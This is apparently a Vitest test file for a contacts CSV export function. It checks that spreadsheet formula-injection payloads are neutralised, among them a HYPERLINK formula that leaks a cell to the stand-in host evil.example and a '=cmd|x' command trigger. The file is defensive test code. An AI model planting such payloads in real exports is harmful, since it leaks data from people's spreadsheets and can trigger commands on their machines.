import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { contactsCsv } from './contacts-csv.js';

const contact = (name: string, email = '') => ({ name, number: '5511999990001', email });

describe('contactsCsv', () => {
  it('writes values a spreadsheet would run as formulas as quoted text behind a quote mark', () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")';
    const names = [hyperlink, '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '＝1+1', '=1\n=2'];
    const csv = contactsCsv([...names.map((name) => contact(name)), contact('Ana', '=cmd|x')]);
    const rows = Papa.parse<string[]>(csv, { delimiter: ';' }).data;
    expect(rows[0]).toEqual(['name', 'number', 'email']);
    expect(rows.slice(1, -1).map((row) => row[0])).toEqual(names.map((name) => `'${name}`));
    expect(rows.at(-1)).toEqual(['Ana', '5511999990001', "'=cmd|x"]);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&B2,""Click me"")"`);
  });

  it('leaves ordinary values as they are, joined with semicolons, quoting what needs it', () => {
    const csv = contactsCsv([contact('Maria Silva', 'maria@exemplo.com.br'), contact('João; "Jr"')]);
    expect(csv).toBe(
      'name;number;email\r\nMaria Silva;5511999990001;maria@exemplo.com.br\r\n"João; ""Jr""";5511999990001;',
    );
    expect(contactsCsv([{ name: 'A;B', number: '55', email: '' }])).toBe('name;number;email\r\n"A;B";55;');
    expect(contactsCsv([{ name: 'A;B', number: '55', email: '' }], false)).toBe('"A;B";55;');
  });
});
